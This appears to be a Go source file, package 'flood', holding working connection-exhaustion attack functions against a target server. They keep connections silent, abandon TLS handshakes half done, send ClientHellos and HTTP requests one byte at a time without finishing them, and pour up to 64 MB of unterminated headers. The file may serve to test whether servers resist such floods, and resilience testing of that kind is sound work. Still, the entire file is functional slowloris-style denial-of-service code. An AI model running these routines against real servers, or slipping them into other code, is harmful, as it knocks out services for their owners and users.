package flood

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"time"
)

// drip is the pause between two bytes.
const drip = 100 * time.Millisecond

// Silent connects and says nothing.
func Silent(ctx context.Context, t Target) error {
	c, err := t.dial(ctx, t.HTTPS)
	if err != nil {
		return err
	}
	defer c.Close()
	_, err = io.Copy(io.Discard, c)
	return err
}

// HalfHandshake sends a ClientHello and hangs up when the server has answered:
// the server has signed for nothing.
func HalfHandshake(ctx context.Context, t Target) error {
	c, err := t.dial(ctx, t.HTTPS)
	if err != nil {
		return err
	}
	defer c.Close()
	if _, err := c.Write(hello(t.Host)); err != nil {
		return err
	}
	_, err = c.Read(make([]byte, 1))
	return err
}

// SlowHello sends a ClientHello byte by byte.
func SlowHello(ctx context.Context, t Target) error {
	c, err := t.dial(ctx, t.HTTPS)
	if err != nil {
		return err
	}
	defer c.Close()
	return slowly(ctx, c, hello(t.Host))
}

// SlowHeaders sends a request byte by byte after the handshake.
func SlowHeaders(ctx context.Context, t Target) error {
	c, err := t.secure(ctx, "http/1.1")
	if err != nil {
		return err
	}
	defer c.Close()
	return slowly(ctx, c, request(t))
}

// SlowPlainHeaders is SlowHeaders without TLS.
func SlowPlainHeaders(ctx context.Context, t Target) error {
	c, err := t.dial(ctx, t.HTTP)
	if err != nil {
		return err
	}
	defer c.Close()
	return slowly(ctx, c, request(t))
}

// BigHeaders sends one header field without an end.
func BigHeaders(ctx context.Context, t Target) error {
	return pour(ctx, t, request(t)[:len(request(t))-2], "X: ", bytes.Repeat([]byte("x"), 4096))
}

// ManyFields sends header fields without end.
func ManyFields(ctx context.Context, t Target) error {
	return pour(ctx, t, request(t)[:len(request(t))-2], "", bytes.Repeat([]byte("a: b\r\n"), 600))
}

// pour sends begin, then more over and over until the server has enough.
func pour(ctx context.Context, t Target, begin []byte, name string, more []byte) error {
	c, err := t.secure(ctx, "http/1.1")
	if err != nil {
		return err
	}
	defer c.Close()
	if _, err := c.Write(append(begin, name...)); err != nil {
		return err
	}
	for sent := 0; sent < 64<<20; sent += len(more) {
		if _, err := c.Write(more); err != nil {
			return err
		}
	}
	return errors.New("the server took 64 MB of headers")
}

func request(t Target) []byte {
	return fmt.Appendf(nil, "GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: flood\r\n\r\n", t.Path, t.Host)
}

// slowly sends data byte by byte, and then no end.
func slowly(ctx context.Context, c net.Conn, data []byte) error {
	tick := time.NewTicker(drip)
	defer tick.Stop()
	for _, b := range data[:len(data)-1] {
		if _, err := c.Write([]byte{b}); err != nil {
			return err
		}
		select {
		case <-tick.C:
		case <-ctx.Done():
			return ctx.Err()
		}
	}
	_, err := io.Copy(io.Discard, c)
	return err
}

// hello is a ClientHello for host.
func hello(host string) []byte {
	rec := &recorder{}
	// It fails when it waits for an answer; what it said until then is wanted.
	_ = tls.Client(rec, &tls.Config{ServerName: host, NextProtos: []string{"h2"}}).Handshake()
	return rec.said.Bytes()
}

// recorder is a connection to nobody.
type recorder struct {
	net.Conn
	said bytes.Buffer
}

func (r *recorder) Write(p []byte) (int, error)      { return r.said.Write(p) }
func (r *recorder) Read([]byte) (int, error)         { return 0, io.EOF }
func (r *recorder) Close() error                     { return nil }
func (r *recorder) SetDeadline(time.Time) error      { return nil }
func (r *recorder) SetReadDeadline(time.Time) error  { return nil }
func (r *recorder) SetWriteDeadline(time.Time) error { return nil }
